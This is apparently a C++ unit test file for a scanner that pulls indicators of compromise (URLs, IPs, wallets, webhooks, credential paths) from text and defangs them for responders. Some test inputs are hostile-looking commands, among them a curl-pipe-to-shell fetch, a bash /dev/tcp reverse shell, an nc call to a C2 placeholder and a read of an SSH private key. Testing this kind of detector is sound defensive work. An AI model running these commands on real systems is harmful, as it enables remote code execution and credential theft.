#include "indicator/indicator.h"

#include <gtest/gtest.h>

#include <random>
#include <string>
#include <vector>

namespace pyverdict::indicator {
namespace {

std::string shown(std::string_view text) {
  std::string result;
  for (const Match& match : scan(text)) {
    if (!result.empty()) result += ' ';
    result += std::string(name(match.type)) + "=" + match.value;
  }
  return result;
}

struct Case {
  const char* text;
  const char* found;
};

class Finds : public testing::TestWithParam<Case> {};

TEST_P(Finds, WhatAResponderWouldSearchFor) { EXPECT_EQ(shown(GetParam().text), GetParam().found); }

INSTANTIATE_TEST_SUITE_P(
    Positives, Finds,
    testing::Values(
        Case{"TCP:h.example.invalid:8443/x", "domain=h.example.invalid hostPort=h.example.invalid:8443"},
        Case{"Mozilla/5.0 (X11; Linux x86_64) Gecko/1 Odd/7",
             "userAgent=Mozilla/5.0 (X11; Linux x86_64) Gecko/1 Odd/7"},
        Case{"curl -A 'Mozilla/5.0 (odd)' h", "userAgent=Mozilla/5.0 (odd)"},
        Case{"QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnQW7a",
             "ipfs=QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnQW7a"},
        Case{"/ipfs/bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi",
             "ipfs=bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi"},
        Case{"http://h.example.invalid/a.sh", "url=http://h.example.invalid/a.sh domain=h.example.invalid"},
        Case{"curl -s https://192.0.2.7:8080/x?y=1 | sh", "url=https://192.0.2.7:8080/x?y=1 ipv4=192.0.2.7"},
        Case{"see (http://a.example.invalid/b).", "url=http://a.example.invalid/b domain=a.example.invalid"},
        Case{"hxxps://evil[.]example[.]invalid/p",
             "url=https://evil.example.invalid/p domain=evil.example.invalid"},
        Case{"stratum+tcp://pool.example.invalid:3333",
             "url=stratum+tcp://pool.example.invalid:3333 domain=pool.example.invalid"},
        Case{"http://[2001:db8::7]/x", "url=http://[2001:db8::7]/x ipv6=2001:db8::7"},
        Case{"ftp://user:pw@files.example.invalid/x",
             "url=ftp://user:pw@files.example.invalid/x domain=files.example.invalid"},
        Case{"198.51.100.4:4444", "ipv4=198.51.100.4 hostPort=198.51.100.4:4444"},
        Case{"10.0.0.5", "ipv4=10.0.0.5"}, Case{"host=203.0.113.9", "ipv4=203.0.113.9"},
        Case{"2001:db8::1", "ipv6=2001:db8::1"},
        Case{"connect c2.example.invalid now", "domain=c2.example.invalid"},
        Case{"metadata.google.internal", "domain=metadata.google.internal"},
        Case{"evil-host.xyz", "domain=evil-host.xyz"},
        Case{"abcdefghij234567abcdefghij234567abcdefghij234567abcdefgh.onion",
             "domain=abcdefghij234567abcdefghij234567abcdefghij234567abcdefgh.onion"},
        Case{"mail a.b@example.invalid", "email=a.b@example.invalid"},
        Case{"/etc/cron.d/x", "path=/etc/cron.d/x"}, Case{"cat ~/.ssh/id_rsa", "path=~/.ssh/id_rsa"},
        Case{"C:\\Users\\Public\\a.exe", "path=C:\\Users\\Public\\a.exe"},
        Case{"C:\\Program Files\\A\\b.dll", "path=C:\\Program Files\\A\\b.dll"},
        Case{"%APPDATA%\\x\\y.exe", "path=%APPDATA%\\x\\y.exe"},
        Case{"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
             "registryKey=HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"},
        // Genesis and documentation addresses: nobody's.
        Case{"1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", "wallet=1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"},
        Case{"bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4",
             "wallet=bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"},
        Case{"0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed",
             "wallet=0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"},
        Case{
            "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
            "wallet="
            "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3"
            "A"},
        Case{"https://discord.com/api/webhooks/000000000000000000/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
             "webhook=https://discord.com/api/webhooks/000000000000000000/"
             "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa "
             "domain=discord.com"},
        Case{"AKIAIOSFODNN7EXAMPLE", "token=AKIAIOSFODNN7EXAMPLE"},
        Case{"000000000:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
             "token=000000000:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"},
        Case{"d41d8cd98f00b204e9800998ecf8427e", "hash=d41d8cd98f00b204e9800998ecf8427e"},
        Case{"sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 "
             "e3b0c44298fc1c149afbf4c8996fb924"
             "27ae41e4649b934ca495991b7852b855",
             "hash=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}));

INSTANTIATE_TEST_SUITE_P(
    Urls, Finds,
    testing::Values(
        Case{"a=http://a.example.invalid/x,http://b.example.invalid/y",
             "url=http://a.example.invalid/x domain=a.example.invalid url=http://b.example.invalid/y "
             "domain=b.example.invalid"},
        Case{"[docs](https://h.example.invalid/a_(b)) x",
             "url=https://h.example.invalid/a_(b)) domain=h.example.invalid"},
        Case{"(https://h.example.invalid/a)", "url=https://h.example.invalid/a domain=h.example.invalid"},
        Case{"http://h.example.invalid/{id}/x", "url=http://h.example.invalid/ domain=h.example.invalid"},
        Case{"https://r.example.invalid/?u=http://t.example.invalid/p",
             "url=https://r.example.invalid/?u=http://t.example.invalid/p domain=r.example.invalid "
             "url=http://t.example.invalid/p domain=t.example.invalid"},
        Case{"https://{}.files.example.org/u", "domain=files.example.org"},
        Case{"http://3221225994/x", "url=http://3221225994/x ipv4=192.0.2.10"},
        Case{"http://0xc000020a/x", "url=http://0xc000020a/x ipv4=192.0.2.10"},
        Case{"wss://ws.example.invalid:443/s",
             "url=wss://ws.example.invalid:443/s domain=ws.example.invalid"},
        Case{"git+https://g.example.invalid/r.git@main",
             "url=git+https://g.example.invalid/r.git@main domain=g.example.invalid"},
        Case{"HTTP://H.EXAMPLE.INVALID/", "url=HTTP://H.EXAMPLE.INVALID/ domain=H.EXAMPLE.INVALID"},
        Case{"hxxp://a[.]example[.]invalid, b[.]example[.]invalid",
             "url=http://a.example.invalid domain=a.example.invalid domain=b.example.invalid"},
        Case{"192[.]0[.]2[.]7", "ipv4=192.0.2.7"}, Case{"a[at]b[dot]example", "email=a@b.example"},
        Case{"fxp://f(.)example(.)invalid/x", "url=ftp://f.example.invalid/x domain=f.example.invalid"},
        Case{"hxxps[://]h[.]example[.]invalid[/]x",
             "url=https://h.example.invalid/x domain=h.example.invalid"}));

INSTANTIATE_TEST_SUITE_P(
    Hosts, Finds,
    testing::Values(
        Case{"TCP:192.0.2.7:4444", "ipv4=192.0.2.7 hostPort=192.0.2.7:4444"},
        Case{"ssh root@192.0.2.7", "ipv4=192.0.2.7"},
        Case{"bash -i >& /dev/tcp/192.0.2.7/4444 0>&1", "ipv4=192.0.2.7"},
        Case{"/dev/udp/c2.example.invalid/53", "domain=c2.example.invalid"},
        Case{"192.0.2.0/24", "ipv4=192.0.2.0"}, Case{"10.0.0.1,10.0.0.2", "ipv4=10.0.0.1 ipv4=10.0.0.2"},
        Case{"169.254.169.254", "ipv4=169.254.169.254"}, Case{"[2001:db8::1]:443", "ipv6=2001:db8::1"},
        Case{"fe80::1", "ipv6=fe80::1"},
        Case{"2001:db8:0:0:0:0:192.0.2.1", "ipv6=2001:db8:0:0:0:0:192.0.2.1"},
        Case{"nc c2.example.invalid 4444", "domain=c2.example.invalid"},
        Case{"c2.example.invalid:4444", "domain=c2.example.invalid hostPort=c2.example.invalid:4444"},
        Case{"c2.example.invalid/x.sh", "domain=c2.example.invalid"},
        Case{"git@git.example.invalid:a/b.git", "domain=git.example.invalid"},
        Case{"user:pw@db.example.invalid", "domain=db.example.invalid"},
        Case{"mailto:a@example.invalid", "email=a@example.invalid"},
        Case{"time.example.net", "domain=time.example.net"}, Case{"host-7.pro", "domain=host-7.pro"},
        Case{"severalwordsinone.pro", "domain=severalwordsinone.pro"},
        Case{"x7.oob.fun", "domain=x7.oob.fun"}, Case{"t.me/name", "domain=t.me"},
        Case{"curl ifconfig.me", "domain=ifconfig.me"}, Case{"transfer.sh", "domain=transfer.sh"}));

INSTANTIATE_TEST_SUITE_P(
    Files, Finds,
    testing::Values(Case{"/tmp/data_*.csv", "path=/tmp/data_*.csv"},
                    Case{"PATH=/usr/bin:/opt/x/bin", "path=/usr/bin path=/opt/x/bin"},
                    Case{"$HOME/.bashrc", "path=$HOME/.bashrc"}, Case{"tar -C/ >/tmp/.x/y", "path=/tmp/.x/y"},
                    Case{"C:\\\\Windows\\\\Temp\\\\a.log", "path=C:\\Windows\\Temp\\a.log"},
                    Case{"c:/Users/x/a b", "path=c:/Users/x/a b"},
                    Case{"\"%LOCALAPPDATA%\\A B\\Login Data\"", "path=%LOCALAPPDATA%\\A B\\Login Data"},
                    Case{"set \"D=%APPDATA%\\x\\%RANDOM%\"", "path=%APPDATA%\\x\\%RANDOM%"},
                    Case{"C:\\Windows\\System32\\cmd.exe /c dir", "path=C:\\Windows\\System32\\cmd.exe"},
                    Case{"copy C:\\a\\b.txt D:\\c\\e.txt", "path=C:\\a\\b.txt path=D:\\c\\e.txt"},
                    Case{"HKLM:\\SOFTWARE\\Policies\\X", "registryKey=HKLM:\\SOFTWARE\\Policies\\X"},
                    Case{"HKLM:SOFTWARE\\Microsoft\\X", "registryKey=HKLM:SOFTWARE\\Microsoft\\X"},
                    Case{"reg add hkcu\\Software\\Classes\\ms-settings /v x",
                         "registryKey=hkcu\\Software\\Classes\\ms-settings"},
                    Case{"HKEY_LOCAL_MACHINE\\SYSTEM\\X\\{00-1}",
                         "registryKey=HKEY_LOCAL_MACHINE\\SYSTEM\\X\\{00-1}"},
                    Case{"Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                         "registryKey=Software\\Microsoft\\Windows\\CurrentVersion\\Run"},
                    Case{"SYSTEM\\CurrentControlSet\\Services\\x",
                         "registryKey=SYSTEM\\CurrentControlSet\\Services\\x"}));

// Made of the bytes 1 to 20 or 0 to 31, with the right checksum: nobody's.
INSTANTIATE_TEST_SUITE_P(
    Wallets, Finds,
    testing::Values(Case{"16L5yRNPTuciSgXGHqYwn9N6NeoKqopAu", "wallet=16L5yRNPTuciSgXGHqYwn9N6NeoKqopAu"},
                    Case{"31nM1WuowNDzocNxPPW9NQWJEtwWpjfcLj", "wallet=31nM1WuowNDzocNxPPW9NQWJEtwWpjfcLj"},
                    Case{"LKKHMBjCU89fyFNgSRprDoD8Jb25N8uWvd", "wallet=LKKHMBjCU89fyFNgSRprDoD8Jb25N8uWvd"},
                    Case{"M7zVKQKmtV5Rc7erVGVVC3khZbXxsS5HEX", "wallet=M7zVKQKmtV5Rc7erVGVVC3khZbXxsS5HEX"},
                    Case{"D5ERdEN1gsouFSs7zsq7VYJxyWP6dP28H1", "wallet=D5ERdEN1gsouFSs7zsq7VYJxyWP6dP28H1"},
                    Case{"TA4Y62o6YC2Zsck9rZVGTvqW1AQ7X9zTnj", "wallet=TA4Y62o6YC2Zsck9rZVGTvqW1AQ7X9zTnj"},
                    Case{"bc1pqqqsyqcyq5rqwzqfpg9scrgwpugpzysnzs23v9ccrydpk8qarc0sg5tmnz",
                         "wallet=bc1pqqqsyqcyq5rqwzqfpg9scrgwpugpzysnzs23v9ccrydpk8qarc0sg5tmnz"},
                    Case{"ltc1qqypqxpq9qcrsszg2pvxq6rs0zqg3yyc5dyg36p",
                         "wallet=ltc1qqypqxpq9qcrsszg2pvxq6rs0zqg3yyc5dyg36p"},
                    Case{"-u X:0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed.worker",
                         "wallet=0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"},
                    Case{"0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed",
                         "wallet=0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed"}));

INSTANTIATE_TEST_SUITE_P(
    Secrets, Finds,
    testing::Values(
        Case{"https://hooks.slack.com/services/T00000000/B00000000/aaaaaaaaaaaaaaaaaaaaaaaa",
             "webhook=https://hooks.slack.com/services/T00000000/B00000000/aaaaaaaaaaaaaaaaaaaaaaaa "
             "domain=hooks.slack.com"},
        Case{"https://api.telegram.org/bot000000000:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA/sendMessage",
             "webhook=https://api.telegram.org/bot000000000:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA/sendMessage "
             "domain=api.telegram.org"},
        Case{"https://ptb.discord.com/api/webhooks/0/aaaa",
             "webhook=https://ptb.discord.com/api/webhooks/0/aaaa domain=ptb.discord.com"},
        Case{"token=ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
             "token=ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"},
        Case{"AIzaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "token=AIzaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"},
        Case{"-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA", "token=-----BEGIN OPENSSH PRIVATE KEY-----"},
        Case{"da39a3ee5e6b4b0d3255bfef95601890afd80709", "hash=da39a3ee5e6b4b0d3255bfef95601890afd80709"}));

INSTANTIATE_TEST_SUITE_P(
    Negatives, Finds,
    testing::Values(Case{"", ""}, Case{"os.path.join", ""}, Case{"foo.py", ""}, Case{"README.md", ""},
                    Case{"self.name", ""}, Case{"logging.info", ""}, Case{"java.lang.String", ""},
                    Case{"1.2.3", ""}, Case{"1.2.3.4.5", ""}, Case{"version 1.2.3.4", ""},
                    Case{"pkg==1.22.33.44", ""}, Case{"127.0.0.1", ""}, Case{"0.0.0.0", ""},
                    Case{"255.255.255.0", ""}, Case{"1.3.6.1.4.1.311", ""},
                    Case{"Chrome/120.0.6099.71 Safari/537.36", ""}, Case{"256.1.1.1", ""},
                    Case{"01.2.3.4", ""}, Case{"django.contrib.auth", ""}, Case{"http://localhost:8080/", ""},
                    Case{"http://{host}/x", ""}, Case{"file:///etc/passwd.d/x", ""},
                    Case{"application/json", ""}, Case{"/api/v1/users", ""}, Case{"and/or", ""},
                    Case{"12:34:56", ""}, Case{"std::string", ""}, Case{"a@b", ""}, Case{"@decorator", ""},
                    Case{"/dev/null", ""}, Case{"00000000000000000000000000000000", ""}, Case{"deadbeef", ""},
                    Case{"1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb", ""},
                    Case{"0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAeD", ""}, Case{"std.example", ""}));

INSTANTIATE_TEST_SUITE_P(DottedNames, Finds,
                         testing::Values(Case{"ansible.builtin.shell", ""},
                                         Case{"gajim.c.storage.events", ""}, Case{"console.view.help", ""},
                                         Case{"key.key.pid", ""}, Case{"optimizer.params.lr", ""},
                                         Case{"model.pt", ""}, Case{"pyspark.ml", ""},
                                         Case{"button.click", ""}, Case{"node.link", ""}, Case{"user.me", ""},
                                         Case{"stack.top", ""}, Case{"string.in", ""}, Case{"self.id", ""},
                                         Case{"os.name", ""}, Case{"app.run", ""}, Case{"System.Net", ""},
                                         Case{"Foo.com", ""}, Case{"a_b.com", ""}, Case{"chcp.com", ""},
                                         Case{"window.top = 1", ""}, Case{"x.dev(", ""},
                                         Case{"archive.zip", ""}, Case{"a.b.c", ""}, Case{"libc.so.6", ""},
                                         Case{"lib.so", ""}, Case{"%(name)s.com", ""}, Case{"-.com", ""}));

INSTANTIATE_TEST_SUITE_P(
    Numbers, Finds,
    testing::Values(Case{"v1.2.3.40", ""}, Case{"release 10.20.30.40", ""}, Case{"x>=10.20.30.40", ""},
                    Case{"firmware: 10.20.30.40", ""}, Case{"10.20.30.40.50", ""}, Case{"10.20.30", ""},
                    Case{"a10.20.30.40", ""}, Case{"10.20.30.40-1", ""}, Case{"10.20.30.40rc1", ""},
                    Case{"1.2.3.4", ""}, Case{"10.20.30.400", ""}, Case{"12:34", ""},
                    Case{"2024-01-01T12:34:56", ""}, Case{"::", ""}, Case{"::1", ""}, Case{"a::b", ""},
                    Case{"00:1a:2b:3c:4d:5e", ""}, Case{"http://10.20.30.400/", ""},
                    Case{"http://1234567/", ""}, Case{"000102030405060708090a0b0c0d0e0f", ""},
                    Case{"0123456789abcdef0123456789abcdeg", ""},
                    Case{"sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", ""},
                    Case{"123e4567-e89b-12d3-a456-426614174000", ""}));

INSTANTIATE_TEST_SUITE_P(
    NoFilesAndSecrets, Finds,
    testing::Values(Case{"/usr", ""}, Case{"/", ""}, Case{"a/b/c", ""}, Case{"/x/y/z", ""},
                    Case{"<a href=/tmp>", ""}, Case{"\\d:\\d\\d", ""}, Case{"(?i)d:\\s+x", ""},
                    Case{"a:\\n", ""}, Case{"key:\\tvalue", ""}, Case{"%s\\n", ""}, Case{"%d%%\\x", ""},
                    Case{"Opera Software\\Opera Stable", ""}, Case{"100%\\done", ""}, Case{"std::move", ""},
                    Case{"HKLM", ""}, Case{"foo\\bar", ""}, Case{"\\\\", ""}, Case{"ghp_short", ""},
                    Case{"AKIA0123", ""}, Case{"AKIAiosfodnn7example", ""},
                    Case{"-----BEGIN CERTIFICATE-----", ""}, Case{"-----BEGIN PUBLIC KEY-----", ""},
                    Case{"foo@bar", ""}, Case{"@pytest.fixture", ""}, Case{"a@2x.png", ""},
                    Case{"x@1.2.3", ""}, Case{"16L5yRNPTuciSgXGHqYwn9N6NeoKqopAv", ""},
                    Case{"TA4Y62o6YC2Zsck9rZVGTvqW1AQ7X9zTnk", ""},
                    Case{"bc1qqypqxpq9qcrsszg2pvxq6rs0zqg3yyc5fcj4z4", ""},
                    Case{"0x0000000000000000000000000000000000000000", ""},
                    Case{"0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAe", ""},
                    Case{"x0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed", ""}, Case{"[^.]+[.]py", ""},
                    Case{"array[.]", ""}, Case{"f(.)", ""}));

TEST(Scan, SpansLieInTheTextAndShowTheValue) {
  const std::string text = "a = 'http://h.example.invalid/x' # 198.51.100.4:80, ~/.aws/credentials";
  for (const Match& match : scan(text)) {
    ASSERT_LT(match.start, match.end);
    ASSERT_LE(match.end, text.size());
    EXPECT_NE(text.substr(match.start, match.end - match.start).find(match.value), std::string::npos)
        << match.value;
  }
}

TEST(Scan, TakesAnyBytes) {
  std::mt19937 random(7);
  const std::string alphabet = "http://.[]@:\\%~ab19HKCU\n\xff";
  for (int round = 0; round < 20'000; ++round) {
    std::string text;
    for (std::size_t i = random() % 60; i > 0; --i) text += alphabet[random() % alphabet.size()];
    for (const Match& match : scan(text)) ASSERT_LE(match.end, text.size()) << text;
  }
}

TEST(Scan, OneWrongCharacterMakesAWalletNone) {
  const std::string_view digits = "23456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
  std::mt19937 random(58);
  for (const std::string wallet :
       {"16L5yRNPTuciSgXGHqYwn9N6NeoKqopAu", "D5ERdEN1gsouFSs7zsq7VYJxyWP6dP28H1",
        "TA4Y62o6YC2Zsck9rZVGTvqW1AQ7X9zTnj", "bc1qqypqxpq9qcrsszg2pvxq6rs0zqg3yyc5fcj4z3",
        "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"}) {
    ASSERT_EQ(shown(wallet), "wallet=" + wallet);
    for (int round = 0; round < 300; ++round) {
      std::string wrong = wallet;
      wrong[4 + random() % (wallet.size() - 4)] = digits[random() % digits.size()];
      if (wrong != wallet) {
        EXPECT_EQ(shown(wrong), "") << wrong;
      }
    }
  }
}

TEST(Scan, FindsTheSameWhateverStandsAround) {
  const std::string values[] = {"http://h.example.invalid/x", "192.0.2.77",
                                "c2.example.invalid",         "/etc/cron.d/x",
                                "a@example.invalid",          "C:\\Users\\Public\\a.exe"};
  for (const std::string& value : values) {
    const std::string alone = shown(value);
    ASSERT_FALSE(alone.empty()) << value;
    for (const char* around :
         {"'@'", "\"@\"", "(@)", " @ ", "\n@\n", "=@;", "<@>", "`@`", "[@]", "x = '@'\n"}) {
      std::string text = around;
      const std::size_t at = text.find('@');
      text.replace(at, 1, value);
      EXPECT_EQ(shown(text), alone) << text;
      for (const Match& match : scan(text)) {
        if (match.value == value) {
          EXPECT_EQ(match.start, at) << text;
        }
      }
    }
  }
}

TEST(Scan, IsNotDrownedByHostileRepetition) {
  for (const char* piece :
       {"http://a.bc/", "://", "[.]", "hxxp://a[.]", "C:\\. ", "%a%\\", "a@",
        "a:", "/tmp/a:", "Software\\Microsoft\\", "-----BEGIN ", "h[.]x ", "{}.", "http://{}", "a"}) {
    std::string text;
    while (text.size() < 200'000) text += piece;
    std::size_t bytes = 0;
    for (const Match& match : scan(text)) bytes += match.value.size();
    EXPECT_LT(bytes, 5 * text.size()) << piece;
  }
}

struct Defanging {
  Type type;
  const char* value;
  const char* defanged;
};

TEST(Defang, MakesValuesHarmless) {
  const Defanging cases[] = {
      {Type::Url, "https://evil.example.invalid/p.sh", "hxxps://evil[.]example[.]invalid/p.sh"},
      {Type::Url, "ftp://a.example.invalid", "fxp://a[.]example[.]invalid"},
      {Type::Ipv4, "203.0.113.7", "203[.]0[.]113[.]7"},
      {Type::Email, "a@b.example", "a[@]b[.]example"},
      {Type::Path, "/etc/passwd", "/etc/passwd"},
      {Type::Webhook, "https://discord.com/api/webhooks/1/secret", "hxxps://discord[.]com/api/webhooks/1/…"},
      {Type::Webhook, "https://discord.com/api/webhooks/1/secret/slack?wait=true",
       "hxxps://discord[.]com/api/webhooks/1/…"},
      {Type::Webhook, "https://hooks.slack.com/services/T0/B0/secret",
       "hxxps://hooks[.]slack[.]com/services/T0/B0/…"},
      {Type::Url, "http://192.0.2.7:8080/a.b?c=d.e", "hxxp://192[.]0[.]2[.]7:8080/a.b?c=d.e"},
      {Type::Domain, "h.example.invalid", "h[.]example[.]invalid"},
      {Type::Ipv6, "2001:db8::1", "2001[:]db8::1"},
      {Type::Webhook, "https://api.telegram.org/bot123:secret/sendMessage",
       "hxxps://api[.]telegram[.]org/bot123:…"},
  };
  for (const Defanging& row : cases) EXPECT_EQ(defang(row.type, row.value), row.defanged);
  EXPECT_EQ(defang(Type::Token, "AKIAIOSFODNN7EXAMPLE").find("EXAMPLE"), std::string::npos);
}

TEST(VirusTotal, HasPagesForPublicThingsOnly) {
  EXPECT_EQ(virus_total_link(Type::Domain, "pypi.org"), "https://www.virustotal.com/gui/domain/pypi.org");
  EXPECT_EQ(virus_total_link(Type::Ipv4, "8.8.4.4"), "https://www.virustotal.com/gui/ip-address/8.8.4.4");
  EXPECT_EQ(virus_total_link(Type::Url, "http://pypi.org/a"),
            "https://www.virustotal.com/gui/url/aHR0cDovL3B5cGkub3JnL2E");
  for (const char* host : {"h.example.invalid", "metadata.google.internal", "localhost", "a.local"}) {
    EXPECT_EQ(virus_total_link(Type::Domain, host), "") << host;
  }
  for (const char* address : {"10.0.0.1", "192.0.2.1", "127.0.0.1", "169.254.169.254"}) {
    EXPECT_EQ(virus_total_link(Type::Ipv4, address), "") << address;
  }
  EXPECT_EQ(virus_total_link(Type::Ipv6, "2606:4700::1"),
            "https://www.virustotal.com/gui/ip-address/2606%3A4700%3A%3A1");
  EXPECT_EQ(virus_total_link(Type::Hash, "d41d8cd98f00b204e9800998ecf8427e"),
            "https://www.virustotal.com/gui/file/d41d8cd98f00b204e9800998ecf8427e");
  // What a script holds cannot break out of the link.
  EXPECT_EQ(virus_total_link(Type::Url, "http://pypi.org/\"><script>").find_first_of("\"<> "),
            std::string::npos);
  for (const char* url :
       {"http://h.example.invalid/", "http://192.168.0.1/", "ftp://pypi.org/x", "http://h/", "x"}) {
    EXPECT_EQ(virus_total_link(Type::Url, url), "") << url;
  }
  for (const Type type :
       {Type::Path, Type::RegistryKey, Type::Wallet, Type::Webhook, Type::Token, Type::Email}) {
    EXPECT_EQ(virus_total_link(type, "pypi.org"), "");
  }
}

TEST(Addresses, AreClassified) {
  struct Row {
    const char* address;
    AddressClass kind;
  };
  const Row rows[] = {{"8.8.8.8", AddressClass::Public},
                      {"192.168.1.1", AddressClass::Private},
                      {"172.31.0.1", AddressClass::Private},
                      {"172.32.0.1", AddressClass::Public},
                      {"203.0.113.1", AddressClass::Documentation},
                      {"169.254.169.254", AddressClass::LinkLocal},
                      {"::1", AddressClass::Loopback},
                      {"2001:db8::", AddressClass::Documentation},
                      {"fe80::1", AddressClass::LinkLocal},
                      {"fd00::1", AddressClass::Private},
                      {"2606:4700::1", AddressClass::Public},
                      {"::ffff:10.0.0.1", AddressClass::Private},
                      {"1.2.3", AddressClass::Reserved},
                      {"1:2:3", AddressClass::Reserved}};
  for (const Row& row : rows) EXPECT_EQ(classify_address(row.address), row.kind) << row.address;
}

TEST(Solana, IsThirtyTwoBytes) {
  EXPECT_TRUE(may_be_solana("So11111111111111111111111111111111111111112"));
  EXPECT_FALSE(may_be_solana("11111111111111111111111111111111"));
  EXPECT_FALSE(may_be_solana("So1111111111111111111111111111111111111111O"));
  EXPECT_FALSE(may_be_solana("So111111111111111111111111111111"));
}

}  // namespace
}  // namespace pyverdict::indicator
